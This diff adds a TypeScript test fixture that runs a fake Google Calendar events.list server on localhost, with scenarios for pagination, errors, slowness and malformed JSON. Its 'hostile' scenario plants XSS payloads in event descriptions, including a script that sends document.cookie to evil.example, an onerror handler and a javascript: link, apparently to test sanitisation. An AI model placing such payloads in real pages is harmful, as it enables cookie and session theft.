@@ -1,0 +1,264 @@
+// A fake Google Calendar API v3 (events.list only) over real HTTP on 127.0.0.1, port 0, so a
+// separately started server reaches it through GOOGLE_CALENDAR_API_URL. Answers in Google's
+// shapes: the calendar#events list wrapper, calendar#event resources, and Google's error JSON.
+import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
+import type { AddressInfo } from "node:net";
+
+export type GoogleScenario =
+  | "normal"
+  | "paginated" // pages of 5, 1, 0 (each with nextPageToken), then the rest
+  | "empty"
+  | "error500"
+  | "rateLimit403"
+  | "slow" // answers normally after `slowMs`
+  | "malformed" // 200 with truncated JSON
+  | "notFound"
+  | "hostile"; // descriptions with <script>, onerror and javascript: links
+
+export type RecordedRequest = { method: string; path: string; query: URLSearchParams };
+
+type EventTime = { dateTime: string; timeZone: string } | { date: string };
+export type GoogleEventResource = {
+  kind: "calendar#event";
+  etag: string;
+  id: string;
+  status: "confirmed" | "tentative" | "cancelled";
+  htmlLink: string;
+  created: string;
+  updated: string;
+  summary?: string;
+  description?: string;
+  location?: string;
+  creator: { email: string };
+  organizer: { email: string; displayName: string; self: boolean };
+  start: EventTime;
+  end: EventTime;
+  recurringEventId?: string;
+  originalStartTime?: EventTime;
+  iCalUID: string;
+  sequence: number;
+  eventType: "default";
+};
+
+export type FakeGoogleCalendar = {
+  /** The API base, as GOOGLE_CALENDAR_API_URL. */
+  url: string;
+  calendarId: string;
+  apiKey: string;
+  requests: RecordedRequest[];
+  /** Requests that were not an events.list call for our calendar (a test should expect none). */
+  unhandled: RecordedRequest[];
+  requestCount: () => number;
+  setScenario: (scenario: GoogleScenario) => void;
+  /** The events the fake holds (before filtering), for assertions. */
+  events: () => GoogleEventResource[];
+  reset: () => void;
+  close: () => Promise<void>;
+};
+
+const DAY = 86_400_000;
+
+function googleError(code: number, message: string, reason: string, domain = "global", extra: Record<string, unknown> = {}) {
+  return { error: { code, message, errors: [{ message, domain, reason }], ...extra } };
+}
+
+const ERRORS = {
+  badKey: googleError(400, "API key not valid. Please pass a valid API key.", "badRequest", "global", {
+    status: "INVALID_ARGUMENT",
+    details: [
+      {
+        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
+        reason: "API_KEY_INVALID",
+        domain: "googleapis.com",
+        metadata: { service: "calendar-json.googleapis.com" },
+      },
+    ],
+  }),
+  noKey: googleError(
+    403,
+    "Method doesn't allow unregistered callers (callers without established identity). Please use API Key or other form of API consumer identity to call this API.",
+    "forbidden",
+    "global",
+    { status: "PERMISSION_DENIED" },
+  ),
+  rateLimit: googleError(403, "Rate Limit Exceeded", "rateLimitExceeded", "usageLimits"),
+  backend: googleError(500, "Backend Error", "backendError"),
+  notFound: googleError(404, "Not Found", "notFound"),
+  badOrdering: googleError(400, "The requested ordering is not available for the particular query.", "badRequest"),
+  badTime: googleError(400, "Bad Request", "badRequest"),
+};
+
+const pad = (n: number) => String(n).padStart(2, "0");
+const isoDate = (ms: number) => new Date(ms).toISOString().slice(0, 10);
+
+/** Google answers date-times in the calendar's zone; this fake uses a fixed -05:00 (EST) rendering. */
+function estDateTime(ms: number): string {
+  const d = new Date(ms - 5 * 3_600_000);
+  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}T${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:00-05:00`;
+}
+
+function resource(
+  calendarId: string,
+  id: string,
+  fields: Partial<GoogleEventResource> & { start: EventTime; end: EventTime },
+): GoogleEventResource {
+  return {
+    kind: "calendar#event",
+    etag: `"${3_400_000_000_000_000 + id.length}"`,
+    id,
+    status: "confirmed",
+    htmlLink: `https://www.google.com/calendar/event?eid=${Buffer.from(`${id} ${calendarId}`).toString("base64url")}`,
+    created: "2024-01-02T15:04:05.000Z",
+    updated: "2024-01-03T15:04:05.000Z",
+    creator: { email: "organizer@example.org" },
+    organizer: { email: calendarId, displayName: "Founders Circle", self: true },
+    iCalUID: `${id}@google.com`,
+    sequence: 0,
+    eventType: "default",
+    ...fields,
+  };
+}
+
+/** Events around `now`: some far outside the window, timed and all-day, a recurring instance, a cancelled one. */
+function makeEvents(calendarId: string, now: number, hostile: boolean): GoogleEventResource[] {
+  const at = (days: number, hourUtc = 23) => Math.floor((now + days * DAY) / DAY) * DAY + hourUtc * 3_600_000;
+  const timed = (id: string, days: number, summary: string, extra: Partial<GoogleEventResource> = {}) =>
+    resource(calendarId, id, {
+      summary,
+      start: { dateTime: estDateTime(at(days)), timeZone: "America/New_York" },
+      end: { dateTime: estDateTime(at(days) + 2 * 3_600_000), timeZone: "America/New_York" },
+      ...extra,
+    });
+  const allDay = (id: string, days: number, length: number, summary: string) =>
+    resource(calendarId, id, { summary, start: { date: isoDate(at(days, 12)) }, end: { date: isoDate(at(days + length, 12)) } });
+
+  const events = [
+    timed("farpast400", -400, "Too old to be in the window"),
+    timed("past300", -300, "Speaker Series: Hiring your first ten", { description: "Talk and Q&amp;A.<br>Drinks after.", location: "2 W 44th St, New York, NY" }),
+    allDay("past200allday", -200, 1, "Founders Demo Day"),
+    timed("past30", -30, "Member Core Group Dinner", { description: "<b>Members only.</b><ul><li>Dinner</li><li>Hot seat</li></ul>" }),
+    timed("cancelledpast", -20, "Cancelled social", { status: "cancelled" }),
+    timed("weeklycoffee_20260101T133000Z", -7, "Founder Coffee", { recurringEventId: "weeklycoffee", originalStartTime: { dateTime: estDateTime(at(-7)), timeZone: "America/New_York" } }),
+    timed("next7", 7, "Speaker Series: Pricing", { description: 'RSVP at <a href="https://example.org/rsvp">example.org</a>' }),
+    allDay("retreat", 40, 3, "Founders Retreat"),
+    timed("cancelledfuture", 45, "Cancelled workshop", { status: "cancelled" }),
+    timed("member90", 90, "Members Breakfast"),
+    timed("future200", 200, "Annual Gala"),
+    timed("farfuture400", 400, "Too far ahead to be in the window"),
+  ];
+  if (hostile) {
+    events.push(
+      timed("hostile1", 10, "Hostile script", { description: 'Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>' }),
+      timed("hostile2", 11, "Hostile onerror", { description: '<img src=x onerror="alert(1)">Image' }),
+      timed("hostile3", 12, "Hostile link", { description: '<a href="javascript:alert(1)">Click me</a> <iframe src="https://evil.example"></iframe>' }),
+    );
+  }
+  return events;
+}
+
+function instant(time: EventTime): number {
+  return "dateTime" in time ? Date.parse(time.dateTime) : Date.parse(`${time.date}T00:00:00Z`);
+}
+
+export async function startFakeGoogleCalendar(
+  options: { calendarId?: string; apiKey?: string; now?: () => number; slowMs?: number } = {},
+): Promise<FakeGoogleCalendar> {
+  const calendarId = options.calendarId ?? "c_founders.circle@group.calendar.google.com";
+  const apiKey = options.apiKey ?? "AIzaFAKE-test-key-5f3c9b21";
+  const now = options.now ?? (() => Date.now());
+  const slowMs = options.slowMs ?? 6_000;
+  let scenario: GoogleScenario = "normal";
+  const requests: RecordedRequest[] = [];
+  const unhandled: RecordedRequest[] = [];
+  const listPath = `/calendar/v3/calendars/${encodeURIComponent(calendarId)}/events`;
+
+  const send = (res: ServerResponse, status: number, body: unknown) => {
+    if (res.destroyed) return;
+    res.writeHead(status, { "content-type": "application/json; charset=UTF-8", vary: "Origin, X-Origin, Referer" });
+    res.end(typeof body === "string" ? body : JSON.stringify(body, null, 1));
+  };
+
+  const list = (query: URLSearchParams, res: ServerResponse) => {
+    const key = query.get("key");
+    if (!key) return send(res, 403, ERRORS.noKey);
+    if (key !== apiKey) return send(res, 400, ERRORS.badKey);
+    if (scenario === "notFound") return send(res, 404, ERRORS.notFound);
+    if (scenario === "error500") return send(res, 500, ERRORS.backend);
+    if (scenario === "rateLimit403") return send(res, 403, ERRORS.rateLimit);
+    if (scenario === "malformed") return send(res, 200, '{"kind":"calendar#events","items":[{"id":"abc","summ');
+    if (query.get("orderBy") === "startTime" && query.get("singleEvents") !== "true") return send(res, 400, ERRORS.badOrdering);
+    const timeMin = query.get("timeMin");
+    const timeMax = query.get("timeMax");
+    const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})$/;
+    if ((timeMin && !rfc3339.test(timeMin)) || (timeMax && !rfc3339.test(timeMax))) return send(res, 400, ERRORS.badTime);
+    const maxResults = Math.min(Number(query.get("maxResults") ?? 250) || 250, 2500);
+
+    // timeMin bounds an event's end (exclusive), timeMax its start (exclusive).
+    const all = scenario === "empty" ? [] : makeEvents(calendarId, now(), scenario === "hostile");
+    const matching = all
+      .filter((e) => !timeMin || instant(e.end) > Date.parse(timeMin))
+      .filter((e) => !timeMax || instant(e.start) < Date.parse(timeMax))
+      .sort((a, b) => instant(a.start) - instant(b.start));
+
+    const token = query.get("pageToken");
+    const offset = token ? Number(Buffer.from(token, "base64url").toString().split(":")[1]) : 0;
+    const page = token ? Number(Buffer.from(token, "base64url").toString().split(":")[0]) : 0;
+    const size = scenario === "paginated" ? Math.min(maxResults, [5, 1, 0][page] ?? maxResults) : maxResults;
+    const items = matching.slice(offset, offset + size);
+    const next = offset + size < matching.length ? Buffer.from(`${page + 1}:${offset + size}`).toString("base64url") : undefined;
+    send(res, 200, {
+      kind: "calendar#events",
+      etag: '"p33c9v1qqrr7p40o"',
+      summary: "Founders Circle",
+      description: "Public events of the community",
+      updated: new Date(now()).toISOString(),
+      timeZone: "America/New_York",
+      accessRole: "reader",
+      defaultReminders: [],
+      ...(next ? { nextPageToken: next } : {}),
+      items,
+    });
+  };
+
+  const handle = (req: IncomingMessage, res: ServerResponse) => {
+    const url = new URL(req.url ?? "/", "http://fake");
+    const recorded = { method: req.method ?? "GET", path: url.pathname, query: url.searchParams };
+    if (req.method !== "GET" || !url.pathname.startsWith("/calendar/v3/calendars/")) {
+      unhandled.push(recorded);
+      return send(res, 404, ERRORS.notFound);
+    }
+    requests.push(recorded);
+    if (url.pathname !== listPath) return send(res, 404, ERRORS.notFound);
+    if (scenario === "slow") {
+      const timer = setTimeout(() => list(url.searchParams, res), slowMs);
+      res.on("close", () => clearTimeout(timer));
+      return;
+    }
+    list(url.searchParams, res);
+  };
+
+  const server = createServer(handle);
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+
+  return {
+    url: `http://127.0.0.1:${port}/calendar/v3`,
+    calendarId,
+    apiKey,
+    requests,
+    unhandled,
+    requestCount: () => requests.length,
+    setScenario: (next) => void (scenario = next),
+    events: () => makeEvents(calendarId, now(), scenario === "hostile"),
+    reset: () => {
+      requests.length = 0;
+      unhandled.length = 0;
+      scenario = "normal";
+    },
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.closeAllConnections();
+        server.close(() => resolve());
+      }),
+  };
+}
